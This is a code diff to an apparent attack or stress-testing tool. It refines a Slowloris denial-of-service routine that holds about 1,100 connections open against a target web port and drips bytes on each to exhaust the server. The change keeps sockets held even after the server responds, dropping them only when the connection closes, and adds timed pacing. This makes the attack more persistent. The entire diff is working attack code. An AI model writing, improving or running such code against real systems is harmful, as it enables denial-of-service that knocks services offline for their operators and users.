@@ -19,6 +19,7 @@ CONNECTIONS = 1_100
 HELD_SECONDS = 15.0
 DRIP_SECONDS = 1.0
 CONNECT_SECONDS = 5.0
+RECEIVE_BYTES = 65_536
 
 
 def slow_loris_on_the_web_port(target: Target, force: float) -> None:
@@ -48,18 +49,26 @@ def drip(host: str, port: int, opening: bytes, drop: bytes, force: float) -> Non
                     made.setblocking(False)
                     selector.register(made, selectors.EVENT_READ)
                     held.append(made)
-                for key, _ in selector.select(DRIP_SECONDS):
-                    # Whatever came, an answer or the end, this one is used up.
+                for key, _ in selector.select(0):
                     assert isinstance(key.fileobj, socket.socket)
-                    _drop(key.fileobj, held, selector)
+                    if _is_over(key.fileobj):
+                        _drop(key.fileobj, held, selector)
                 for each in [*held]:
                     try:
                         each.sendall(drop)
                     except OSError:
                         _drop(each, held, selector)
+                time.sleep(DRIP_SECONDS)
         finally:
             for each in held:
                 each.close()
+
+
+def _is_over(each: socket.socket) -> bool:
+    try:
+        return not each.recv(RECEIVE_BYTES)
+    except OSError:
+        return True
 
 
 def _drop(each: socket.socket, held: list[socket.socket], selector: selectors.BaseSelector) -> None:
